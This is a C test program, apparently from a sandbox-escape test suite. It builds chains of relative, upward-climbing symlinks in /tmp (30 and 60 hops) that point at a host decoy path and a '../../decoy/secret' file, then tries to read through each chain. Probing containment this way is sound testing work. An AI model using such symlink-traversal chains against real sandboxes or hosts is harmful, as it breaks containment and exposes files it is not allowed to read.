// A chain of symlinks, each hop relative and climbing, ending at the host
// decoy's path: 30 hops (within the kernel's 40) and 60 hops (beyond it).
#include "attack.h"

static void chain(const char* tag, int hops, const char* final_target) {
  char name[64], target[8192];
  for (int i = 0; i < hops; ++i) {
    snprintf(name, sizeof name, "/tmp/%s%d", tag, i);
    if (i == hops - 1)
      snprintf(target, sizeof target, "%s", final_target);
    else
      snprintf(target, sizeof target, "../tmp/../../tmp/%s%d", tag, i + 1);
    RAW2(SYS_symlink, target, name);
  }
}

int main(void) {
  announce();
  const char* decoy = host("ESC_DECOY");
  char up[8192];
  snprintf(up, sizeof up, "../../../../../../../../..%s", decoy);
  chain("c", 30, up);
  chain("d", 60, up);
  chain("e", 30, "../../decoy/secret");
  try_read("chain30_host_path", "/tmp/c0");
  try_read("chain60_host_path", "/tmp/d0");
  try_read("chain30_rel", "/tmp/e0");
  return done();
}
